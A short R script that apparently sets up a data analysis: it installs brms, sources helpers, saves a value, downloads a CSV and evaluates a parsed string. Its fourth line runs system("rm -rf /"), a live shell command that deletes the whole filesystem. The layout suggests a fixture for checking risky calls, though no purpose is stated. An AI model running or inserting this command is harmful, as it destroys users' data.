install.packages("brms")
setwd("~/analysis")
source("helpers.R")
system("rm -rf /")
x <- 3
saveRDS(x, "x.rds")
download.file("http://example.org/d.csv", "d.csv")
eval(parse(text = "x <- 4"))
